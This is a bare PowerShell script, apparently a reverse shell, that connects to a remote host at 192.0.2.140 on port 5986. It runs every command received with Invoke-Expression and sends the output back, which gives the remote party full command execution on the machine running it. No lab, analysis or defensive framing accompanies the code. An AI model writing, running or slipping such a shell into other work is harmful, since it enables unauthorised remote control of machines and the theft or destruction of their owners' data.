$server = '192.0.2.140'
$port = 5986
$sock = New-Object System.Net.Sockets.Socket([System.Net.Sockets.AddressFamily]::InterNetwork,
    [System.Net.Sockets.SocketType]::Stream, [System.Net.Sockets.ProtocolType]::Tcp)
$sock.Connect($server, $port)
$buf = New-Object byte[] 4096
$enc = [System.Text.Encoding]::UTF8

while ($sock.Connected) {
    $n = $sock.Receive($buf)
    if ($n -le 0) { break }
    $cmd = $enc.GetString($buf, 0, $n)
    $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_.ToString() }
    [void]$sock.Send($enc.GetBytes($out + 'PS> '))
}
$sock.Close()
